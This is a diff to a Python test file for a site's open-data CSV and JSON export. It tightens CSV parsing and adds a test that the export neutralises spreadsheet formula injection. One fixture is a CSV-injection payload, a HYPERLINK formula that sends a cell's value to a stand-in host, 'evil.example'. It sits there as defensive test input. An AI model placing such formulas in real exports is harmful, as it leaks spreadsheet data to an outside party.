@@ -4,6 +4,7 @@ the files in the built site."""
 from __future__ import annotations
 
 import csv
+import re
 import io
 import json
 import random
@@ -52,7 +53,8 @@ def validate(document: dict, schema: dict) -> None:
 
 def rows_from_csv(text: str, schema: dict, table: str) -> list[dict]:
     """The CSV's rows typed by the JSON Schema (an independent reading of the conventions:
-    lists joined with ";", an empty field is null)."""
+    a leading apostrophe is dropped, lists are joined with ";" and escape ";" and "\\" with a
+    backslash, an empty field is null)."""
     properties = schema["properties"][table]["items"]["properties"]
     reader = csv.DictReader(io.StringIO(text, newline=""))
     assert reader.fieldnames == list(properties)
@@ -61,8 +63,9 @@ def rows_from_csv(text: str, schema: dict, table: str) -> list[dict]:
         row = {}
         for name, value in record.items():
             kind = properties[name]["type"]
+            value = value[1:] if value.startswith("'") else value
             if kind == "array":
-                row[name] = value.split(";") if value else []
+                row[name] = [re.sub(r"\\(.)", r"\1", item) for item in re.split(r"(?<!\\);", value)] if value else []
             elif kind == "integer":
                 row[name] = int(value)
             elif "null" in kind:
@@ -235,3 +238,17 @@ def test_the_built_site_publishes_the_api_files_and_they_validate(fixture_site):
     for path in opendata.API_FILES:
         assert f'href="../{path}"' in page, path
     assert "Open data" in fixture_site.html("").split('class="md-nav md-nav--primary"', 1)[1]
+
+
+def test_csv_neither_runs_formulas_nor_splits_list_items(registry):
+    # Untrusted text: a spreadsheet must not run it; a ";" inside an item stays inside it.
+    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    briefings = [briefing("briefings/2023/2023-01-02-b.md", "2023-01-02", ["mali"], title=title,
+                          tags=("@SUM(1)", "a;b", "back\\slash", "'quoted"))]
+    files = files_of(briefings, registry)
+    rows = list(csv.reader(io.StringIO(files["api/briefings.csv"], newline="")))
+    assert rows[1][1] == "'" + title
+    assert not any(field.startswith(("=", "+", "-", "@")) for row in rows for field in row)
+    document = json.loads(files["api/briefings.json"])
+    assert document["briefings"][0]["tags"] == ["@SUM(1)", "a;b", "back\\slash", "'quoted"]
+    assert rows_from_csv(files["api/briefings.csv"], json.loads(files["api/briefings.schema.json"]), "briefings") == document["briefings"]
